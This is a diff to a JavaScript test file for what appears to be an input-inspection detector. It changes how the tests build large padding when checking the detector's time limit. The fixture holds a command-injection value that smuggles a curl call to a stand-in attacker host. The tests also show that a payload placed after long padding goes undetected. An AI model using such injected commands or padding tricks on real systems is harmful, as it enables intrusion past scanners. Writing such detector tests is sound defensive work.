@@ -87,9 +87,10 @@ describe('time', () => {
   });
   test('ends a large text at what there is time for, with its beginning looked at', () => {
     const attack = '; curl http://attacker.example/ ';
-    const stopped = inspectEvent({ v: attack + 'x y '.repeat(1_000_000) }, { limits: { time: 20 }, now: () => 7 });
+    const padding = Array.from({ length: 700_000 }, (_, i) => (i * 7919) % 1_000_003).join(' ');
+    const stopped = inspectEvent({ v: attack + padding }, { limits: { time: 20 }, now: () => 7 });
     assert.deepEqual([stopped.incomplete, stopped.level !== 'none'], ['time', true]);
-    const late = inspectEvent({ v: 'x y '.repeat(1_000_000) + attack }, { limits: { time: 20 }, now: () => 7 });
+    const late = inspectEvent({ v: padding + attack }, { limits: { time: 20 }, now: () => 7 });
     assert.deepEqual([late.incomplete, late.level], ['time', 'none']);
   });
   test('ends many values', () => {
